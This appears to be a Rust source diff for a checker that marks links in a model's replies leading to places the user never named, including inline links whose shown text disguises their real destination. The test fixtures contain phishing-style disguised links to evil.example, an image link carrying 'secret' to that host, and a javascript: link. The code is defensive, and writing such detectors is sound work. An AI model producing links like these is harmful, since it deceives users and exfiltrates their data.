@@ -1,8 +1,10 @@
 //! Links in what a model says to a person: where each truly leads, and whether the person ever
 //! named that place. What they did not name and an outsider may have put there is marked.
 
+mod inline;
+
 use crate::markdown::decoded;
-use std::collections::BTreeSet;
+use inline::{disguised, goals};
 use url::{Host, Url};
 
 /// Schemes that lead somewhere without naming a host.
@@ -50,26 +52,28 @@ impl Known {
         stands_in(&self.said, &address.to_lowercase())
     }
 
-    /// Where the links of a text lead that the user did not name, each once; nothing before an
-    /// outsider had a say.
+    /// Where the links of a text lead that the user did not name, each once and the destinations of
+    /// inline links first; nothing before an outsider had a say.
     #[must_use]
     pub fn strange(&self, text: &str) -> Vec<String> {
         if !self.has_seen_outsiders {
             return Vec::new();
         }
-        let mut places = BTreeSet::new();
         // Also as those read it that decode before they follow a link.
         let decoded = decoded(text);
         let again = Some(&*decoded).filter(|decoded| *decoded != text);
-        for lead in leads(text)
+        let mut places = Vec::new();
+        for lead in goals(text)
             .into_iter()
+            .chain(leads(text))
             .chain(again.into_iter().flat_map(leads))
         {
-            if !self.names(&lead) {
-                places.insert(lead.place());
+            let place = lead.place();
+            if !self.names(&lead) && !places.contains(&place) {
+                places.push(place);
             }
         }
-        places.into_iter().collect()
+        places
     }
 
     /// Whether the user gave the link itself, or its host and nothing else is handed along.
@@ -88,8 +92,9 @@ impl Known {
     }
 }
 
-/// A text with each strange place written beside the word that leads there. Everything else stays
-/// as `shown` has it. `mark` turns places into what is written.
+/// A text with each strange place written beside the word that leads there, and beside each inline
+/// link that shows another address than it leads to, whatever was read. Everything else stays as
+/// `shown` has it. `mark` turns places into what is written.
 #[must_use]
 pub fn marked(
     text: &str,
@@ -97,9 +102,12 @@ pub fn marked(
     shown: impl Fn(&str) -> String,
     mark: impl Fn(&str) -> String,
 ) -> String {
-    if !known.has_seen_outsiders {
+    let disguised = disguised(text);
+    if !known.has_seen_outsiders && disguised.is_empty() {
         return shown(text);
     }
+    let disguised = disguised.iter().filter(|link| !known.names(&link.goal));
+    let mut disguised = disguised.peekable();
     let mut out = String::with_capacity(text.len());
     // What stands between two marks is shown in one piece: how a character reads may depend on the
     // one before it.
@@ -107,11 +115,21 @@ pub fn marked(
     let mut at = 0;
     for piece in text.split_inclusive(char::is_whitespace) {
         let word = piece.trim_end_matches(char::is_whitespace);
-        let strange = known.strange(word);
-        if !strange.is_empty() {
-            let end = at + word.len();
+        let end = at + word.len();
+        let mut places = Vec::new();
+        while let Some(link) = disguised.next_if(|link| link.end <= at + piece.len()) {
+            places.push(link.goal.place());
+        }
+        places.extend(known.strange(word));
+        if !places.is_empty() {
+            let mut told: Vec<String> = Vec::new();
+            for place in places {
+                if !told.contains(&place) {
+                    told.push(place);
+                }
+            }
             out.push_str(&shown(&text[from..end]));
-            out.push_str(&mark(&strange.join(", ")));
+            out.push_str(&mark(&told.join(", ")));
             from = end;
         }
         at += piece.len();
@@ -289,7 +307,7 @@ mod tests {
             ("[bank](https://evil.example/login)", "evil.example"),
             (
                 "[https://bank.com](https://evil.example)",
-                "bank.com, evil.example",
+                "evil.example, bank.com",
             ),
             ("![x](https://evil.example/p.png?d=secret)", "evil.example"),
             ("![x](//evil.example/p.png)", "evil.example"),
@@ -352,8 +370,62 @@ mod tests {
     }
 
     #[test]
-    fn before_anything_of_an_outsiders_was_read_nothing_is_marked() {
-        let text = "See https://doc.rust-lang.org/std.";
-        assert_eq!(show(text, &Known::default()), text);
+    fn before_anything_of_an_outsiders_was_read_only_disguise_is_marked() {
+        let plain = [
+            "See https://doc.rust-lang.org/std.",
+            "[std](https://doc.rust-lang.org/std)",
+            "[https://doc.rust-lang.org](https://doc.rust-lang.org/std)",
+            "[example.com](https://www.example.com/) [main.rs](https://example.com/src/main.rs)",
+            "[serde 1.0.2, e.g.](https://docs.rs/serde) [a.b.c](notes.md) [Node.js](https://x.example)",
+            "[Cargo.toml](https://example.com/Cargo.toml) [std.fs](https://example.com/std)",
+            "[![CI](https://img.example/x.svg)](https://example.com/ci)",
+            "[me@example.com](mailto:me@example.com)",
+        ];
+        for text in plain {
+            assert_eq!(show(text, &Known::default()), text);
+        }
+        let cases = [
+            (
+                "[https://bank.com/](https://evil.example/x)",
+                "evil.example",
+            ),
+            ("[bank.com](https://evil.example)", "evil.example"),
+            ("[**bank.com**](https://evil.example)", "evil.example"),
+            ("[www.bank.com](https://evil.example)", "evil.example"),
+            ("[bank.com/login](<https://evil.example>)", "evil.example"),
+            ("[see bank.com now](https://evil.example)", "evil.example"),
+            ("[bank.com](//evil.example)", "evil.example"),
+            ("[bank.com](https://bank.com@evil.example)", "evil.example"),
+            (
+                "[bank.com](https://bank.com.evil.example)",
+                "bank.com.evil.example",
+            ),
+            (
+                "[b\u{e4}nk.de](https://evil.example \"bank\")",
+                "evil.example",
+            ),
+            ("[bank&#46;com](https://evil.example)", "evil.example"),
+            ("[bank.com](javascript:alert(1))", "a javascript: link"),
+            ("[me@bank.com](mailto:eve@evil.example)", "a mailto: link"),
+            ("[see [bank.com]](https://evil.example)", "evil.example"),
+        ];
+        for (text, place) in cases {
+            let shown = show(text, &Known::default());
+            assert!(shown.contains(&format!(" <{place}>")), "{text}: {shown}");
+            assert_eq!(shown.replace(&format!(" <{place}>"), ""), text);
+        }
+        let mut known = Known::default();
+        known.hear("go to https://evil.example/x");
+        let named = "[https://bank.com/](https://evil.example/x)";
+        assert_eq!(show(named, &known), named);
+    }
+
+    #[test]
+    fn a_text_of_nothing_but_links_is_marked_soon() {
+        for piece in ["](", "[a.com](", "a.com](https://b.com", "[", "[["] {
+            let text = piece.repeat(100_000 / piece.len());
+            let known = Known::default();
+            assert!(show(&text, &known).len() >= text.len());
+        }
     }
 }
